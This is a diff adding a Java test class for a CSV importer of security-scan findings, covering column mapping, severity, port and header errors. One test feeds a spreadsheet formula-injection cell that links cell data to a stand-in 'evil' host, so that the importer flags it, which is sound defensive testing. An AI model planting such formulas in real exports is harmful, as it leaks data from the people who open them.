@@ -1,0 +1,112 @@
+package org.inspectorate.ingest;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.util.List;
+
+import org.junit.jupiter.api.Test;
+
+/** The documented CSV template (docs/import-csv.md). */
+class CsvTemplateTest {
+
+    private static final String HEADER = "host,port,protocol,rule_id,title,severity,category,description,solution,"
+            + "cve,cnvd,cnnvd,cvss3_vector,location,evidence\n";
+
+    @Test
+    void templateRowBecomesAFindingWithEveryColumnMapped() {
+        List<ScannedFinding> findings = Samples.parseText(ReportFormat.CSV, "\uFEFF" + HEADER
+                + "10.1.2.3,8080,TCP,R-17,Tomcat manager exposed,高,MISCONFIGURATION,\"Manager app, reachable\","
+                + "Restrict access,CVE-2020-1938 cve-2019-0232,CNVD-2020-10487,CNNVD-202002-1040,"
+                + "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H,,HTTP/1.1 200 OK\n");
+
+        assertThat(findings).hasSize(1);
+        ScannedFinding f = findings.get(0);
+        assertThat(f.host()).isEqualTo("10.1.2.3");
+        assertThat(f.port()).isEqualTo(8080);
+        assertThat(f.protocol()).isEqualTo("tcp");
+        assertThat(f.ruleId()).isEqualTo("R-17");
+        assertThat(f.severity()).isEqualTo(Severity.HIGH);
+        assertThat(f.category()).isEqualTo(FindingCategory.MISCONFIGURATION);
+        assertThat(f.description()).isEqualTo("Manager app, reachable");
+        assertThat(f.cves()).containsExactly("CVE-2020-1938", "CVE-2019-0232");
+        assertThat(f.cnvdIds()).containsExactly("CNVD-2020-10487");
+        assertThat(f.cnnvdIds()).containsExactly("CNNVD-202002-1040");
+        assertThat(f.cvss3Vector()).isEqualTo("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
+        assertThat(f.evidence()).isEqualTo("HTTP/1.1 200 OK");
+        assertThat(f.flags()).isEmpty();
+    }
+
+    @Test
+    void minimalTemplateNeedsOnlyHostTitleAndSeverity() {
+        List<ScannedFinding> findings = Samples.parseText(ReportFormat.CSV,
+                "title,severity,host\nSSH default password admin/admin,HIGH,gw.example.cn\nBanner,info,gw.example.cn\n");
+
+        assertThat(findings).extracting(ScannedFinding::category)
+                .containsExactly(FindingCategory.WEAK_PASSWORD, FindingCategory.INFORMATIONAL);
+        assertThat(findings.get(0).port()).isNull();
+    }
+
+    @Test
+    void formulaLikeCellsAreKeptAsTextAndFlagged() {
+        List<ScannedFinding> findings = Samples.parseText(ReportFormat.CSV, "host,title,severity,description\n"
+                + "10.0.0.1,=HYPERLINK(\"http://evil/\"&A1),LOW,@SUM(1+1)\n"
+                + "10.0.0.2,Plain title,LOW,-just a dash list\n"
+                + "10.0.0.3,Plain title,LOW,nothing odd\n");
+
+        assertThat(findings.get(0).title()).isEqualTo("=HYPERLINK(\"http://evil/\"&A1)");
+        assertThat(findings.get(0).description()).isEqualTo("@SUM(1+1)");
+        assertThat(findings.get(0).flags()).contains(FindingFlag.FORMULA_LIKE_TEXT);
+        assertThat(findings.get(1).flags()).contains(FindingFlag.FORMULA_LIKE_TEXT);
+        assertThat(findings.get(2).flags()).doesNotContain(FindingFlag.FORMULA_LIKE_TEXT);
+    }
+
+    @Test
+    void unknownSeverityIsRefusedWithLineColumnAndValue() {
+        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity\n10.0.0.1,x,HIGH\n10.0.0.2,y,urgent\n"))
+                .isInstanceOfSatisfying(ReportParseException.class, e -> {
+                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-severity-invalid");
+                    assertThat(e.problem().args()).containsExactly("urgent");
+                    assertThat(e.line()).isEqualTo(3);
+                    assertThat(e.column()).isEqualTo(3);
+                });
+    }
+
+    @Test
+    void missingRequiredColumnIsNamed() {
+        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity_level\n10.0.0.1,x,HIGH\n"))
+                .isInstanceOfSatisfying(ReportParseException.class, e -> {
+                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-unknown-column");
+                    assertThat(e.problem().args()).containsExactly("severity_level");
+                });
+        assertThatThrownBy(() -> new CsvReportParser(new WeakCredentialPolicy()).parse(
+                new java.io.ByteArrayInputStream("host,title\n10.0.0.1,x\n".getBytes()), f -> { }))
+                .isInstanceOfSatisfying(ReportParseException.class, e -> {
+                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-missing-column");
+                    assertThat(e.problem().args()).containsExactly("severity");
+                });
+    }
+
+    @Test
+    void rowWithAnotherColumnCountIsMalformed() {
+        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity\n10.0.0.1,x,HIGH,extra\n"))
+                .isInstanceOfSatisfying(ReportParseException.class,
+                        e -> assertThat(e.messageKey()).isEqualTo("ingest.parse.malformed-csv"));
+    }
+
+    @Test
+    void portOutOfRangeIsRefusedNamingTheValue() {
+        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,port,title,severity\n10.0.0.1,65536,x,HIGH\n"))
+                .isInstanceOfSatisfying(ReportParseException.class, e -> {
+                    assertThat(e.messageKey()).isEqualTo("ingest.parse.port-invalid");
+                    assertThat(e.problem().args()).containsExactly("65536");
+                    assertThat(e.line()).isEqualTo(2);
+                    assertThat(e.column()).isEqualTo(2);
+                });
+    }
+
+    @Test
+    void headerOnlyFileIsAnEmptyReport() {
+        assertThat(Samples.parseText(ReportFormat.CSV, HEADER)).isEmpty();
+    }
+}
